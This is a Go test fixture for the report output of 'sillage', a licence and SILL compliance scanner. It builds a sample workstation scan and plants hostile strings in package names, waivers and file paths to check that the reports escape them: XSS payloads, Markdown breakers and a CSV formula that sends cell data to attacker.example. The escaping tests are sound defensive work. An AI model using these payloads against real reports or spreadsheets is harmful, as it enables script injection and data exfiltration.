package report_test

import (
	"time"

	"github.com/sillage-oss/sillage"
)

// The payloads an attacker could put in a package's name, version,
// licence text or SILL data, and that every report must show as text.
const (
	xssImg     = `<img src=x onerror=alert(1)>`
	xssScript  = `</script><script>alert(2)</script>`
	xssURL     = `javascript:alert(3)`
	xssAttr    = `" onmouseover="alert(4)`
	csvFormula = `=HYPERLINK("http://attacker.example/?q="&A1,"click")`
	mdBreaker  = "a|b`c *d* [e](http://attacker.example) @team"
)

// richResult is a workstation scan with everything the human and CI
// reports show: every licence category, every SILL status, findings of
// every severity, active, new, waived (one waiver expired), already in
// the baseline, a finding about a file, migrations, warnings, and hostile
// strings wherever a package can put them.
func richResult() sillage.Result {
	comp := func(c sillage.Component) sillage.Component {
		c.ID = sillage.ComponentID(c)
		return c
	}
	bash := comp(sillage.Component{
		Name: "bash", Version: "5.2.15-2+b8", Type: sillage.TypeDeb, PURL: "pkg:deb/debian/bash@5.2.15-2%2Bb8?arch=amd64&distro=debian-12",
		Locations: []string{"/var/lib/dpkg/status"}, FoundBy: "dpkg-db-cataloger",
		Licenses: sillage.Licenses{Declared: []sillage.DeclaredLicense{{Value: "GPL-3+", SPDX: "GPL-3.0-or-later"}}, Concluded: "GPL-3.0-or-later", Category: sillage.CategoryStrongCopyleft},
	})
	writer := comp(sillage.Component{
		Name: "libreoffice-writer", Version: "4:7.4.7-1+deb12u5", Type: sillage.TypeDeb, PURL: "pkg:deb/debian/libreoffice-writer@4%3A7.4.7-1%2Bdeb12u5?arch=amd64&distro=debian-12",
		Locations: []string{"/var/lib/dpkg/status"}, FoundBy: "dpkg-db-cataloger",
		Licenses: sillage.Licenses{Declared: []sillage.DeclaredLicense{{Value: "MPL-2.0", SPDX: "MPL-2.0"}}, Concluded: "MPL-2.0", Category: sillage.CategoryWeakCopyleft},
		SILL:     &sillage.SILLMatch{ID: "71", Name: "LibreOffice", Status: "recommended", MatchedBy: "package", Confidence: 1, MinVersion: "7.5", BelowMinimum: true},
	})
	firefox := comp(sillage.Component{
		Name: "firefox-esr", Version: "115.12.0esr-1~deb12u1", Type: sillage.TypeDeb, PURL: "pkg:deb/debian/firefox-esr@115.12.0esr-1~deb12u1?arch=amd64&distro=debian-12",
		Locations: []string{"/var/lib/dpkg/status"}, FoundBy: "dpkg-db-cataloger",
		Licenses: sillage.Licenses{Declared: []sillage.DeclaredLicense{{Value: "MPL-2.0", SPDX: "MPL-2.0"}}, Concluded: "MPL-2.0", Category: sillage.CategoryWeakCopyleft},
		SILL:     &sillage.SILLMatch{ID: "37", Name: "Firefox", Status: "recommended", MatchedBy: "package", Confidence: 1},
	})
	pg := comp(sillage.Component{
		Name: "postgresql-15", Version: "15.7-0+deb12u1", Type: sillage.TypeDeb, PURL: "pkg:deb/debian/postgresql-15@15.7-0%2Bdeb12u1?arch=amd64&distro=debian-12",
		Locations: []string{"/var/lib/dpkg/status"}, FoundBy: "dpkg-db-cataloger",
		Licenses: sillage.Licenses{Declared: []sillage.DeclaredLicense{{Value: "PostgreSQL", SPDX: "PostgreSQL"}}, Concluded: "PostgreSQL", Category: sillage.CategoryPermissive},
		SILL:     &sillage.SILLMatch{ID: "82", Name: "PostgreSQL", Status: "in-observation", MatchedBy: "source-package", Confidence: 0.95},
	})
	flash := comp(sillage.Component{
		Name: "pidgin", Version: "2.14.12-1", Type: sillage.TypeDeb, PURL: "pkg:deb/debian/pidgin@2.14.12-1?arch=amd64&distro=debian-12",
		Locations: []string{"/var/lib/dpkg/status"}, FoundBy: "dpkg-db-cataloger",
		Licenses: sillage.Licenses{Declared: []sillage.DeclaredLicense{{Value: "GPL-2+", SPDX: "GPL-2.0-or-later"}}, Concluded: "GPL-2.0-or-later", Category: sillage.CategoryStrongCopyleft},
		SILL:     &sillage.SILLMatch{ID: "95", Name: "Pidgin", Status: "no-longer-recommended", MatchedBy: "package", Confidence: 1},
	})
	chalk := comp(sillage.Component{
		Name: "chalk", Version: "4.1.2", Type: sillage.TypeNPM, PURL: "pkg:npm/chalk@4.1.2",
		Locations: []string{"/srv/app/package-lock.json"}, FoundBy: "javascript-lock-cataloger",
		Licenses: sillage.Licenses{Declared: []sillage.DeclaredLicense{{Value: "MIT", SPDX: "MIT"}}, Concluded: "MIT", Category: sillage.CategoryPermissive},
	})
	agpl := comp(sillage.Component{
		Name: "@ghostfolio/api", Version: "2.1.0", Type: sillage.TypeNPM, PURL: "pkg:npm/%40ghostfolio/api@2.1.0",
		Locations: []string{"/srv/app/package-lock.json"}, FoundBy: "javascript-lock-cataloger",
		Licenses: sillage.Licenses{Declared: []sillage.DeclaredLicense{{Value: "AGPL-3.0", SPDX: "AGPL-3.0-only"}}, Concluded: "AGPL-3.0-only", Category: sillage.CategoryNetworkCopyleft},
	})
	cc0 := comp(sillage.Component{
		Name: "spdx-exceptions", Version: "2.5.0", Type: sillage.TypeNPM, PURL: "pkg:npm/spdx-exceptions@2.5.0",
		Locations: []string{"/srv/app/package-lock.json"}, FoundBy: "javascript-lock-cataloger",
		Licenses: sillage.Licenses{Declared: []sillage.DeclaredLicense{{Value: "CC-BY-3.0", SPDX: "CC-BY-3.0"}}, Concluded: "CC0-1.0", Category: sillage.CategoryPublicDomain},
	})
	office := comp(sillage.Component{
		Name: "Microsoft Office Professional Plus 2019 - fr-fr", Version: "16.0.10827.20138", Type: sillage.TypeWindows,
		Supplier: "Microsoft Corporation", Locations: []string{`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall\ProPlus2019Volume - fr-fr`}, FoundBy: "windows-registry",
		Licenses: sillage.Licenses{Declared: []sillage.DeclaredLicense{{Value: "Proprietary", SPDX: "LicenseRef-Proprietary"}}, Concluded: "LicenseRef-Proprietary", Category: sillage.CategoryProprietary},
	})
	winrar := comp(sillage.Component{
		Name: "WinRAR 6.24 (64-bit)", Version: "6.24.0", Type: sillage.TypeWindows, Supplier: "win.rar GmbH",
		Locations: []string{`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall\WinRAR archiver`}, FoundBy: "windows-registry",
		Licenses: sillage.Licenses{Concluded: "LicenseRef-Proprietary", Category: sillage.CategoryProprietary},
	})
	evil := comp(sillage.Component{
		Name: xssImg, Version: xssAttr, Type: sillage.TypeNPM, PURL: "pkg:npm/evil@1.0.0",
		Locations: []string{"/srv/app/node_modules/evil/package.json"}, FoundBy: "javascript-package-cataloger",
		Licenses: sillage.Licenses{Category: sillage.CategoryUnknown},
	})
	evil2 := comp(sillage.Component{
		Name: xssScript, Version: "1.0", Type: sillage.TypeBinary, Locations: []string{"/opt/evil/bin/tool"}, FoundBy: "binary-classifier-cataloger",
	})
	formula := comp(sillage.Component{
		Name: csvFormula, Version: "-1", Type: sillage.TypePyPI, PURL: "pkg:pypi/formula@0", Locations: []string{"/srv/app/requirements.txt"}, FoundBy: "python-package-cataloger",
		Supplier: "@attacker", Licenses: sillage.Licenses{Declared: []sillage.DeclaredLicense{{Value: "+proprietary"}}, Category: sillage.CategoryUnknown},
	})
	md := comp(sillage.Component{
		Name: mdBreaker, Version: "0.1", Type: sillage.TypeGem, PURL: "pkg:gem/breaker@0.1", Locations: []string{"/srv/app/Gemfile.lock"}, FoundBy: "ruby-gemfile-cataloger",
		Licenses: sillage.Licenses{Concluded: "MIT", Category: sillage.CategoryPermissive},
	})
	comps := []sillage.Component{bash, writer, firefox, pg, flash, chalk, agpl, cc0, office, winrar, evil, evil2, formula, md}

	findings := []sillage.Finding{
		{RuleID: "LIC-DENIED", Severity: sillage.SeverityHigh, ComponentID: agpl.ID, Baseline: sillage.BaselineNew,
			Message:     agpl.Label() + " is under AGPL-3.0-only, which the policy denies for services exposed to the public",
			Remediation: "replace the component, or ask the legal team for a waiver"},
		{RuleID: "LIC-DENIED", Severity: sillage.SeverityHigh, ComponentID: office.ID, Baseline: sillage.BaselineExisting,
			Message:     office.Label() + " is proprietary",
			Remediation: "replace the component, or ask the legal team for a waiver"},
		{RuleID: "SILL-NO-LONGER-RECOMMENDED", Severity: sillage.SeverityMedium, ComponentID: flash.ID,
			Message:     flash.Label() + " is Pidgin, which the SILL no longer recommends (entry 95)",
			Remediation: "plan a replacement: 'sillage sill show ID' gives the reason and the similar software the SILL recommends",
			Waiver:      &sillage.Waiver{ID: "pidgin-until-tchap", Justification: "Tchap rollout ends in June " + xssImg, Expires: "2027-06-30", Source: ".sillage.yaml:14"}},
		{RuleID: "LIC-UNDECLARED", Severity: sillage.SeverityLow, ComponentID: evil.ID, Baseline: sillage.BaselineNew,
			Message:     evil.Label() + " (npm) declares no licence and none was detected",
			Remediation: "find the licence in the component's documentation or from its supplier"},
		{RuleID: "LIC-UNDECLARED", Severity: sillage.SeverityLow, ComponentID: evil2.ID, Baseline: sillage.BaselineNew,
			Message:     evil2.Label() + " (binary) declares no licence and none was detected",
			Remediation: "find the licence in the component's documentation or from its supplier",
			Waiver:      &sillage.Waiver{ID: "old-tool", Justification: "vendor contract", Expires: "2026-01-31", Source: ".sillage.yaml:20"}},
		{RuleID: "LIC-UNDECLARED", Severity: sillage.SeverityLow, ComponentID: formula.ID, Baseline: sillage.BaselineNew,
			Message:     formula.Label() + " (pypi) declares no licence SPDX knows",
			Remediation: "find the licence in the component's documentation or from its supplier"},
		{RuleID: "SILL-BELOW-MINIMUM", Severity: sillage.SeverityLow, ComponentID: writer.ID, Baseline: sillage.BaselineExisting,
			Message:     writer.Label() + " is older than 7.5, the minimal version the SILL recommends for LibreOffice",
			Remediation: "upgrade to the minimal version the SILL recommends or later"},
		{RuleID: "RGI-FORMAT", Severity: sillage.SeverityMedium, Path: "/srv/app/docs/contrat final.docx", Baseline: sillage.BaselineNew,
			Message:     "/srv/app/docs/contrat final.docx is OOXML, in observation in the RGI",
			Remediation: "exchange it as ODF (OpenDocument) with other administrations"},
		{RuleID: "SILL-MIGRATION", Severity: sillage.SeverityInfo, ComponentID: office.ID, Baseline: sillage.BaselineNew,
			Message:     office.Label() + " is Microsoft Office (office suite); the SILL lists LibreOffice",
			Remediation: "assess a migration to one of the SILL alternatives listed in the report"},
		{RuleID: "SILL-MIGRATION", Severity: sillage.SeverityInfo, ComponentID: winrar.ID, Baseline: sillage.BaselineNew,
			Message:     winrar.Label() + " is WinRAR (file archiver); the SILL lists 7-Zip",
			Remediation: "assess a migration to one of the SILL alternatives listed in the report"},
		{RuleID: "SILL-RECOMMENDED", Severity: sillage.SeverityInfo, ComponentID: firefox.ID, Baseline: sillage.BaselineNew,
			Message: firefox.Label() + " is Firefox, recommended by the SILL (entry 37)", Remediation: "none needed"},
		{RuleID: "SILL-RECOMMENDED", Severity: sillage.SeverityInfo, ComponentID: writer.ID, Baseline: sillage.BaselineNew,
			Message: writer.Label() + " is LibreOffice, recommended by the SILL (entry 71)", Remediation: "none needed"},
		{RuleID: "SILL-IN-OBSERVATION", Severity: sillage.SeverityInfo, ComponentID: pg.ID, Baseline: sillage.BaselineNew,
			Message: pg.Label() + " is PostgreSQL, in observation in the SILL (entry 82)", Remediation: "none needed; the SILL lists it but does not recommend it yet"},
		{RuleID: "LIC-DENIED", Severity: sillage.SeverityCritical, ComponentID: md.ID, Baseline: sillage.BaselineNew,
			Message: md.Label() + " is under a licence the policy denies", Remediation: "remove it",
			Translations: map[string]sillage.FindingText{"fr": {Message: md.Label() + " est sous une licence que la politique interdit", Remediation: "le retirer"}}},
	}
	r := sillage.Result{
		SchemaVersion: sillage.SchemaVersion,
		Tool:          sillage.Tool{Name: "sillage", Version: "1.2.3"},
		Target:        sillage.Target{Scheme: sillage.SchemeHost, Path: "/", Distro: &sillage.Distro{ID: "debian", VersionID: "12", PrettyName: "Debian GNU/Linux 12 (bookworm)"}},
		Host:          &sillage.Host{Name: "poste-042", MachineID: "0123456789abcdef0123456789abcdef", OS: "Debian GNU/Linux 12 (bookworm)"},
		ScannedAt:     time.Date(2026, 11, 23, 9, 30, 0, 0, time.UTC),
		Catalogs: []sillage.CatalogRef{
			{Name: "licenses", Version: "spdx-3.28.0+sillage-1", Source: "embedded"},
			{Name: "policy", Version: "ministere@3", Source: "/etc/sillage/policy.yaml"},
			{Name: "sill", Version: "2022-05-10", Source: "embedded"},
		},
		Components: comps,
		Findings:   findings,
		Migrations: []sillage.Migration{
			{ComponentID: office.ID, Product: "Microsoft Office", Category: "office suite", Alternatives: []sillage.Alternative{
				{SILLID: "71", Name: "LibreOffice", SupportContract: true, ComptoirDuLibreURL: "https://comptoir-du-libre.org/fr/softwares/33"},
				{SILLID: "243", Name: "OnlyOffice " + xssImg, ComptoirDuLibreURL: xssURL}}},
			{ComponentID: winrar.ID, Product: "WinRAR", Category: "file archiver", Alternatives: []sillage.Alternative{
				{SILLID: "1", Name: "7-Zip", SupportContract: true}}},
			{ComponentID: evil.ID, Product: "TeamViewer", Category: "remote access", Alternatives: []sillage.Alternative{}},
		},
		Warnings: []string{"/var/lib/rpm/rpmdb.sqlite: unable to read <b>bold</b>"},
		Rules: []sillage.RuleInfo{
			{ID: "LIC-DENIED", Title: "Component's licence is on the policy's deny list"},
			{ID: "SILL-MIGRATION", Title: "Proprietary product with free alternatives on the SILL"},
		},
		Formats: &sillage.FormatInventory{
			Roots:       []string{"/srv/partage"},
			FilesListed: "action",
			Files: []sillage.FileFormat{
				{Path: "/srv/partage/" + xssImg + ".doc", FormatID: "doc", PUID: "fmt/40", RGIStatus: "absent", Confidence: "rgi-text", Action: "migrate", Replacement: "odt", Size: 24576, Basis: "content"},
			},
			Summary: []sillage.FormatSummary{
				{FormatID: "doc", Name: "Microsoft Word 97-2003 Document", PUIDs: []string{"fmt/40"}, Files: 1200, Bytes: 734003200,
					RGIStatus: "absent", Confidence: "rgi-text", Action: "migrate", Severity: sillage.SeverityHigh, Replacement: "odt",
					ConvertWith: []sillage.ConvertTool{{SILLID: "71", Name: "LibreOffice"}}},
				{FormatID: "docx", Variant: "transitional", Name: "Office Open XML Document", PUIDs: []string{"fmt/412"}, Files: 5300, Bytes: 2147483648,
					RGIStatus: "unverified", UnverifiedStatus: "observation", Confidence: "draft", Action: "review", Severity: sillage.SeverityLow, Replacement: "odt"},
				{FormatID: "odt", Name: "OpenDocument Text", PUIDs: []string{"fmt/1756"}, Files: 800, Bytes: 104857600,
					RGIStatus: "recommended", Confidence: "rgi-text", Action: "none", Severity: sillage.SeverityInfo},
			},
			Directories: []sillage.DirectoryOffender{{Path: "/srv/partage/" + xssScript, Migrate: 900, Review: 12, Bytes: 500000000, ByFormat: map[string]int{"doc": 900}}},
			Totals:      sillage.FormatTotals{Files: 7300, Bytes: 2986344448, Migrate: 1200, Review: 5300, Unreadable: 3},
		},
	}
	r.Normalize()
	return r
}
